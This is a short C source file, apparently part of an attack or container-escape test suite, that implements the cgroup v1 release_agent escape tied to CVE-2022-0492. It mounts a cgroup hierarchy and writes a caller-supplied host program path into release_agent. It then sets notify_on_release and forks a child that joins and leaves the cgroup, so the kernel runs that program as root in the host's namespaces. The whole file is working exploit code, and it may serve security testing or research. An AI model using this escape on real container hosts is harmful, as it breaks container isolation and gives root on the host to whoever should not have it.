/*
 * When the last process of a v1 cgroup ends, the kernel starts a program, as root, in the host's namespaces: whatever path is in the file
 * release_agent at the root of that hierarchy (cgroups(7)). Whoever may mount the hierarchy may write there. CVE-2022-0492 was this, by
 * somebody who should not have been allowed to.
 */
#include "attack.h"
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>

static void put(const char *path, const char *text)
{
	const int fd = must(open(path, O_WRONLY), "open a file of the hierarchy");
	must(write(fd, text, strlen(text)), "write to it");
	close(fd);
}

/* argv: options that name the hierarchy, the host's path of a program. */
void release_agent(char **argv)
{
	must(mkdir("/tmp/hierarchy", 0755), "make a place for a hierarchy");
	must(mount("cgroup", "/tmp/hierarchy", "cgroup", 0, argv[0]), "mount a hierarchy");
	put("/tmp/hierarchy/release_agent", argv[1]);
	must(mkdir("/tmp/hierarchy/short", 0755), "make a cgroup in it");
	put("/tmp/hierarchy/short/notify_on_release", "1");
	const pid_t child = must(fork(), "have somebody in it");
	if (child == 0) {
		put("/tmp/hierarchy/short/cgroup.procs", "0");
		_exit(0);
	}
	waitpid(child, NULL, 0);
}
